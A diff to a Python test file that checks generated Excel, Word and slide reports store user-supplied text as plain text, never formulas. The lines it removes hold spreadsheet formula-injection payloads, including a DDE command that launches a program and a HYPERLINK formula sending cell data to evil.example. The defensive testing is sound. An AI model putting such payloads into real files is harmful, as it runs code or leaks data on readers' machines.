@@ -1,12 +1,14 @@
 """What somebody wrote is text in every file, however much it looks like something else.
 
 A name that a spreadsheet took for a formula would run on the reader's machine; a name that a
-word processor took for markup would break the file. Seen red with formulas allowed in either
+word processor took for markup would break the file. The county has no other sheets: nothing writes
+CSV (below). Seen red with formulas allowed in either
 workbook and with one text put into the Word file unescaped.
 """
 
 from __future__ import annotations
 
+import ast
 import zipfile
 from dataclasses import replace
 from io import BytesIO
@@ -28,31 +30,11 @@ from samklang.reporting.figures import Account
 from samklang.reporting.paper import paper
 from samklang.reporting.slides import writer as slides
 from tests import cast
+from tests.architecture.tree import modules
+from tests.hostile.formulas import FORMULAS
 from tests.reporting import county
 
 pytestmark = pytest.mark.django_db
-
-PAYLOADS = [
-    "=1+1",
-    '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-1+1",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "{=1+1}",
-    "https://evil.example/",
-    "mailto:x@evil.example",
-    "internal:'Blad'!A1",
-    "<b>&amp;</b>]]>",
-    "'=1+1",
-    "0123",
-    "1e5",
-    "2025-02-07",
-    "TRUE",
-    "#REF!",
-    "\N{RIGHT-TO-LEFT OVERRIDE}abc",
-]
 
 
 def hostile(text: str) -> Extract:
@@ -83,15 +65,24 @@ def no_formula(content: bytes) -> None:
     assert b"<hyperlink" not in text
 
 
-@pytest.mark.parametrize("text", PAYLOADS)
+def texts(content: bytes) -> set[str]:
+    return {shown(cell.value) for cell in cells(content) if cell.data_type == "s"}
+
+
+def shown(text: str) -> str:
+    """A return is written as Office writes it, in the format's own words."""
+    return text.replace("\r", "_x000D_")
+
+
+@pytest.mark.parametrize("text", FORMULAS)
 def test_the_reports_workbook_has_text_and_no_formula(text: str) -> None:
     content = sheets.written(hostile(text))
 
     no_formula(content)
-    assert text in {cell.value for cell in cells(content) if cell.data_type == "s"}
+    assert shown(text) in texts(content)
 
 
-@pytest.mark.parametrize("text", PAYLOADS)
+@pytest.mark.parametrize("text", FORMULAS)
 def test_the_county_pages_workbook_has_text_and_no_formula(client: Client, text: str) -> None:
     hostile(text)
     Area.objects.update(statutory=True)
@@ -100,11 +91,10 @@ def test_the_county_pages_workbook_has_text_and_no_formula(client: Client, text:
     content = client.get(f"/lanet/matris.xlsx?on={county.DAY.isoformat()}").content
 
     no_formula(content)
-    texts = {cell.value for cell in cells(content) if cell.data_type == "s"}
-    assert text in texts
+    assert shown(text) in texts(content)
 
 
-@pytest.mark.parametrize("text", PAYLOADS)
+@pytest.mark.parametrize("text", FORMULAS[::3])
 def test_a_word_file_and_slides_show_it_as_it_was_written(text: str) -> None:
     extract = hostile(text)
 
@@ -152,3 +142,23 @@ def test_a_countys_word_can_head_a_sheet_whatever_it_is(name: str) -> None:
     titles = openpyxl.load_workbook(BytesIO(content)).sheetnames
     assert len(titles) == 5
     assert all(len(title) <= 31 for title in titles)
+
+
+def test_no_other_module_writes_sheets() -> None:
+    """A new kind of file for spreadsheets is tried here first. Seen red with `import csv`."""
+    writing = {
+        path
+        for path, tree in modules()
+        for node in ast.walk(tree)
+        for name in _names(node)
+        if name.split(".")[0] in {"csv", "xlsxwriter", "openpyxl", "pandas", "odf"}
+    }
+
+    reading = {"inventories/program_values.py"}
+    assert writing == {"portal/sheet.py", "reporting/sheets.py"} | reading
+
+
+def _names(node: ast.AST) -> list[str]:
+    if isinstance(node, ast.Import):
+        return [one.name for one in node.names]
+    return [node.module or ""] if isinstance(node, ast.ImportFrom) else []
